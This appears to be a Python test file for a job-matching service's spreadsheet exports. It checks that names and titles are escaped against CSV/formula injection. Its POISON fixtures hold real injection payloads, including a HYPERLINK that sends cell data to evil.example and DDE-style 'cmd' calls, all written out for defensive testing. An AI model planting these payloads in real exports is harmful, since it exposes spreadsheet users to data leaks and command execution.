"""No exported cell is a formula: names and titles typed as `=HYPERLINK(…)` stay text in every
.xlsx and .csv the service writes (roster exports, the import report, attendance sheets,
indicators, the assignment CSV), as OWASP recommends against CSV / formula injection."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from jobmatch import sheets
from jobmatch.extensions import db
from jobmatch.matches import assignment
from jobmatch.placements.models import Referral
from jobmatch.posts import service as posts
from jobmatch.rosters import exports
from jobmatch.vocab import ReferralState
from tests import factories
from tests.accounts.conftest import as_role, county  # noqa: F401  (fixtures)
from tests.cadre.conftest import _quick_password_hashes  # noqa: F401  (fixture)
from tests.rosters.conftest import LABORER_HEADERS, csv_bytes, person

# What a hostile name or title looks like: each starts with a character a spreadsheet runs.
POISON = {
    "laborer": '=HYPERLINK("http://evil.example/?id="&C2,"详情")',
    "laborer_2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "laborer_3": "-2+3+cmd|' /C calc'!A0",
    "head": "+1+1",
    "employer": "=1+1",
    "opening": '\t=HYPERLINK("http://evil.example","报名")',
    "workshop": '=HYPERLINK("http://evil.example","车间")',
    "village": '=HYPERLINK("http://evil.example","村")',
}
KINDS = ("laborers", "households", "employers", "openings", "referrals", "employments")


def _runs(value: object) -> bool:
    """Text a spreadsheet would take for a formula (a plain number such as -1 is only a number)."""
    return (
        isinstance(value, str) and value.startswith(sheets.FORMULA_STARTS) and not sheets._PLAIN_NUMBER.fullmatch(value)
    )


def _formula_cells_xlsx(data: bytes) -> list[str]:
    """Cells a spreadsheet would run: formulas, and text starting with a formula character."""
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = cell.value
                if cell.data_type == "f" or _runs(text):
                    found.append(f"{sheet.title}!{cell.coordinate}={text!r}")
    return found


def _all_xlsx_text(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [c.value for s in book.worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)]


def _formula_cells_csv(data: bytes) -> list[str]:
    return [value for row in _csv_rows(data) for value in row if _runs(value)]


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.fixture
def poisoned(county):  # noqa: F811  (the fixture, imported above)
    """The county with every name and title a spreadsheet would run as a formula."""
    east_a, east_b = county["east"]
    east_a.name, east_b.name, county["west"].name = POISON["laborer"], POISON["laborer_2"], POISON["laborer_3"]
    east_a.household.head_name = POISON["head"]
    county["workshop"].name = POISON["workshop"]
    county["village"].name = POISON["village"]
    db.session.commit()
    employer = posts.save_employer(
        {"name": POISON["employer"], "kind": "enterprise", "region_code": factories.COUNTY_CODE}
    )
    opening = posts.save_opening(
        {
            "kind": "workshop",
            "title": POISON["opening"],
            "employer_id": employer.id,
            "workshop_id": county["workshop"].id,
            "region_code": factories.VILLAGE_CODE,
            "headcount": 3,
        }
    )
    db.session.add(
        Referral(
            laborer_id=east_a.id, opening_id=opening.id, state=ReferralState.referred, state_since=datetime.now(UTC)
        )
    )
    db.session.commit()
    return county


@pytest.mark.parametrize("role", ["admin", "manager"])
def test_no_roster_export_holds_a_formula(as_role, poisoned, role):  # noqa: F811
    """Every roster, in both formats, in full (admin) and masked (manager)."""
    client = as_role(role)
    # A manager's referral roster is refused as their referral list is.
    for kind in [k for k in KINDS if not (role == "manager" and k == "referrals")]:
        for fmt in ("xlsx", "csv"):
            response = client.get(f"/api/v1/rosters/{kind}/export?format={fmt}")
            assert response.status_code == 200, (kind, fmt)
            found = _formula_cells_xlsx(response.data) if fmt == "xlsx" else _formula_cells_csv(response.data)
            assert found == [], (kind, fmt)


def test_the_poisoned_names_are_kept_as_text_and_import_back_unchanged(poisoned):
    """The apostrophe only keeps the text from running: the import reads the name as it was typed."""
    from jobmatch.rosters import service

    for fmt in ("xlsx", "csv"):
        data = exports.export_roster("laborers", fmt, masked=False)
        text = _all_xlsx_text(data) if fmt == "xlsx" else [v for row in _csv_rows(data) for v in row]
        assert "'" + POISON["laborer"] in text
        result = service.import_roster("laborers", data, f"导出.{fmt}", dry_run=True)
        assert result.counts == {"created": 0, "updated": 0, "unchanged": 3, "rejected": 0}, result.summary()


def test_the_import_report_holds_no_formula(as_role, poisoned):  # noqa: F811
    header = [*LABORER_HEADERS, '=HYPERLINK("http://evil.example","备注")']
    rows = [
        header,
        person(41, 姓名=POISON["laborer"], 联系电话="-1") + ["@cmd"],
        person(42, household="+H-NOPE", 姓名="-王") + ["=1+1"],
    ]
    response = as_role("admin").post(
        "/api/v1/rosters/laborers/import?report=xlsx",
        data={"file": (io.BytesIO(csv_bytes(rows)), "名册.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    assert _formula_cells_xlsx(response.data) == []
    assert "'" + POISON["laborer"] in _all_xlsx_text(response.data)


def test_the_attendance_sheet_holds_no_formula(as_role, poisoned):  # noqa: F811
    shop, manager = poisoned["workshop"], as_role("manager")
    day = {"entries": [{"laborer_id": poisoned["west"].id, "status": "present"}], "reason": "补记"}
    assert manager.post(f"/api/v1/workshops/{shop.id}/attendance?date=2026-03-02", json=day).status_code == 200
    response = manager.get(f"/api/v1/workshops/{shop.id}/attendance/export?month=2026-03")
    assert response.status_code == 200
    assert _formula_cells_xlsx(response.data) == []
    text = _all_xlsx_text(response.data)
    assert "'" + POISON["laborer_3"] in text  # the worker's name
    assert any(value.startswith("'" + POISON["workshop"]) for value in text)  # the title


def test_the_indicators_sheet_holds_no_formula(as_role, poisoned):  # noqa: F811
    response = as_role("bureau").get(f"/api/v1/indicators/export?region={factories.VILLAGE_CODE}")
    assert response.status_code == 200
    assert _formula_cells_xlsx(response.data) == []


def test_the_assignment_csv_holds_no_formula():
    item = {
        "laborer_id": 7,
        "laborer_name": POISON["laborer"],
        "village": POISON["village"],
        "household_code": "H1",
        "household_without_work": True,
        "opening_id": 9,
        "opening_title": POISON["opening"],
        "chance": 0.42,
    }
    data = assignment.to_csv({"items": [item]}).encode("utf-8")
    assert _formula_cells_csv(data) == []
    [row] = _csv_rows(data)[1:]
    assert row[1] == "'" + POISON["laborer"] and row[7] == "0.42"


def test_numbers_stay_numbers_and_only_formula_text_is_marked():
    assert sheets.row([12, -3.5, "-12.5", "+86", "王秀英", date(2026, 3, 1), None]) == [
        12,
        -3.5,
        "-12.5",
        "+86",
        "王秀英",
        date(2026, 3, 1),
        None,
    ]
    assert sheets.row(["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1"]) == [
        "'=1+1",
        "'+1+1",
        "'-1+1",
        "'@A1",
        "'\t=1",
        "'\r=1",
    ]
    assert [sheets.unescape(sheets.cell(v)) for v in ("=1+1", "王秀英", "'引号")] == ["=1+1", "王秀英", "'引号"]
